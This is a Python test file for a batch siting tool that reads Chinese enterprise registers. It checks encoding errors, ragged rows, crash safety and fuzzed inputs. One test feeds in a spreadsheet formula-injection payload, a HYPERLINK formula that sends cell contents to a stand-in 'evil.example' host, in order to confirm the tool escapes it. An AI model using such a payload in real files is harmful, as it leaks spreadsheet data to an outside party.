"""Hostile and careless registers through the real `siting batch`: each is refused with exit 2 and a
bilingual message naming the file, the row and the fix (never a traceback, never a partial OUT);
CSV results are safe to open in a spreadsheet; a run killed between its renames leaves one whole
result set; and a fuzz sample of generated registers never crashes."""

from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pandas as pd
from hypothesis import HealthCheck, given, settings

from siting.batch.files import DETAILS, SITUATIONS, read_result
from tests.batch_fuzz import batch_case, csv_registers, xlsx_files
from tests.batch_register import register_csv
from tests.hostile import TIME_LIMIT_S, siting_bounded

HEADER = "名称,经度,纬度,行业,阶段\n"


def _row(i: int, name: str = "") -> str:
    return f"{name or f'企业{i}'},{111 + (i % 300) / 100:.4f},{36 + (i % 200) / 100:.4f},造纸,新建\n"


def _refused(source: Path, tmp_path: Path, *named: str) -> str:
    out = tmp_path / "out" / "结果.csv"
    done = siting_bounded("batch", str(source), "--out", str(out), "--quiet")
    assert done.code == 2, done.err[-2000:]
    assert "Traceback" not in done.err and "输入错误" in done.err and "Input error" in done.err
    assert source.name in done.err
    for text in named:
        assert text in done.err, done.err
    assert not out.exists() and not list(out.parent.glob(".*partial*")), "nothing staged or written"
    return done.err


def test_utf16_with_its_bom_is_read_and_without_it_refused(tmp_path, layers):
    text = HEADER + "".join(_row(i) for i in range(1, 51))
    source = tmp_path / "utf16.csv"
    source.write_bytes(text.encode("utf-16"))
    out = tmp_path / "r.csv"
    done = siting_bounded("batch", str(source), "--out", str(out), "--quiet")
    assert done.code == 0, done.err
    summary = read_result(out)
    assert summary["名称"].tolist() == [f"企业{i}" for i in range(1, 51)] and set(summary["审查状态"]) == {"已检查"}
    bare = tmp_path / "utf16le.csv"
    bare.write_bytes(text.encode("utf-16-le"))
    _refused(bare, tmp_path, "空字节", "UTF-16 without its BOM", "CSV UTF-8")


def test_a_file_that_turns_gbk_after_its_first_megabyte_is_refused_at_that_line(tmp_path, layers):
    utf8 = HEADER + "".join(_row(i) for i in range(1, 30_000))
    assert len(utf8.encode()) > 1 << 20
    line = utf8.count("\n") + 1
    source = tmp_path / "mixed.csv"
    source.write_bytes(utf8.encode() + _row(30_000, "晋城焦化厂").encode("gbk"))
    _refused(source, tmp_path, f"第{line}行", "UTF-8", "GBK", "one encoding")


def test_an_unterminated_quote_is_refused_at_the_line_it_opens(tmp_path, layers):
    source = tmp_path / "quote.csv"
    source.write_text(HEADER + _row(1) + '"企业2,111.2,36.1,造纸,新建\n' + _row(3) + _row(4), encoding="utf-8")
    _refused(source, tmp_path, "第3行", "引号", "quote")


def test_an_empty_file_is_refused(tmp_path, layers):
    source = tmp_path / "empty.csv"
    source.write_bytes(b"")
    _refused(source, tmp_path, "文件为空", "empty")


def test_random_bytes_are_refused(tmp_path, layers):
    source = tmp_path / "noise.csv"
    source.write_bytes(bytes(range(1, 256)) * 40 + os.urandom(4096).replace(b"\x00", b"\x01"))
    _refused(source, tmp_path, "既不是 UTF-8 也不是 GBK", "neither UTF-8 nor GBK", "CSV UTF-8")
    source.write_bytes(os.urandom(8192))
    _refused(source, tmp_path, "CSV UTF-8")


def test_ragged_rows_are_refused_naming_the_row(tmp_path, layers):
    source = tmp_path / "ragged.csv"
    source.write_text(HEADER + _row(1) + _row(2) + "企业3,111.3,36.2,造纸,新建,多余\n" + _row(4), encoding="utf-8")
    _refused(source, tmp_path, "第4行", "6 个单元格", "6 cells")
    short = tmp_path / "short.csv"
    short.write_text(HEADER + _row(1) + "企业2,111.3\n", encoding="utf-8")
    _refused(short, tmp_path, "第3行", "2 个单元格")


def test_a_zip_named_xlsx_without_a_workbook_is_refused(tmp_path, layers):
    source = tmp_path / "名录.xlsx"
    with zipfile.ZipFile(source, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    _refused(source, tmp_path, "Excel", "save it again as .xlsx")


def test_csv_cells_that_would_run_as_formulas_open_as_text(tmp_path, layers):
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "回车\r拆行", "正常企业"]
    source = tmp_path / "formula.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\n", quoting=csv.QUOTE_ALL)
        writer.writerow(["名称", "经度", "纬度", "行业", "阶段"])
        writer.writerows([name, "111.2", "36.1", "造纸", "新建"] for name in names)
    out = tmp_path / "r.csv"
    done = siting_bounded("batch", str(source), "--out", str(out), "--quiet")
    assert done.code == 0, done.err
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with io.StringIO(raw.decode("utf-8-sig"), newline="") as text:
        rows = list(csv.DictReader(text))
    assert len(rows) == len(names), "a bare carriage return does not split a row"
    assert [row["名称"] for row in rows] == ["'" + name for name in names[:5]] + ["回车\r拆行", "正常企业"]
    assert rows[0]["名称"].startswith("'=HYPERLINK(")
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values()), row


def _consistent(out: Path) -> str:
    """Which run's result set OUT shows ('A' or 'B'), after checking that all three files belong to it."""
    summary, details, situations = (read_result(out, level) for level in ("汇总", DETAILS, SITUATIONS))
    runs = {name[0] for name in summary["名称"]}
    assert len(runs) == 1, runs
    run = runs.pop()
    assert set(details["名称"].str[0]) <= {run}
    assert len(situations) and set(situations["规划情形"]) <= set(summary["规划情形"]), "the situations described are this set's"
    assert len(summary) == {"A": 400, "B": 300}[run]
    return run


def _register(path: Path, run: str, rows: int, industry: str) -> Path:
    path.write_text(HEADER + "".join(f"{run}企业{i},{110.6 + (i % 370) / 100:.4f},{35 + (i % 500) / 100:.4f},{industry},现有\n"
                                     for i in range(rows)), encoding="utf-8")
    return path


def _finishing(out: Path, between: bool) -> bool:
    """The run has staged every file (and, with ``between``, renamed its staging to a result set not yet current)."""
    if between:
        return len(list(out.parent.glob(".r.csv.results-*"))) >= 2
    return bool(list(out.parent.glob(".r.csv.partial-*/r_规划情形.csv")))


def test_a_kill_between_the_renames_leaves_one_whole_result_set(tmp_path, layers):
    first, second = _register(tmp_path / "a.csv", "A", 400, "造纸"), _register(tmp_path / "b.csv", "B", 300, "焦化")
    out = tmp_path / "res" / "r.csv"
    assert siting_bounded("batch", str(first), "--out", str(out), "--quiet").code == 0
    assert _consistent(out) == "A"
    for attempt in range(6):  # killed as the new set is put in place: before its renames, and between them
        between = attempt % 2 == 1
        child = subprocess.Popen([sys.executable, "-m", "siting", "batch", str(second), "--out", str(out), "--quiet"],
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.monotonic() + TIME_LIMIT_S
        while child.poll() is None and time.monotonic() < deadline and not _finishing(out, between):
            pass
        time.sleep(attempt * 0.0005)
        if child.poll() is None:
            os.kill(child.pid, signal.SIGKILL)
        child.wait(TIME_LIMIT_S)
        _consistent(out)
        assert sorted(p.name for p in out.parent.iterdir() if not p.name.startswith(".")) == ["r.csv", "r_规划情形.csv", "r_量测明细.csv"]
    done = siting_bounded("batch", str(second), "--out", str(out), "--quiet")
    assert done.code == 0 and _consistent(out) == "B"
    assert len(list(out.parent.glob(".r.csv.results-*"))) == 1 and not list(out.parent.glob(".r.csv.partial-*"))


@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
@given(csv_registers)
def test_fuzzed_csv_registers_are_answered_or_refused(layers, data):
    result = batch_case(data, ".csv")
    assert not result.startswith("crash"), (data, result)


@settings(max_examples=20, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
@given(xlsx_files)
def test_fuzzed_xlsx_files_are_answered_or_refused(layers, data):
    result = batch_case(data, ".xlsx")
    assert not result.startswith("crash"), (data, result)


def test_a_register_is_read_in_chunks_with_names_that_hold_quotes_and_line_breaks(tmp_path, layers):
    source = register_csv(tmp_path / "reg.csv", 2_000, seed=5)
    out = tmp_path / "r.parquet"
    done = siting_bounded("batch", str(source), "--out", str(out), "--chunk-rows", "300", "--quiet")
    assert done.code == 0, done.err
    expected = pd.read_csv(source, dtype=str, keep_default_na=False)
    summary = read_result(out)
    assert summary["名称"].tolist() == expected["名称"].tolist() and summary["行号"].tolist() == list(range(1, 2_001))
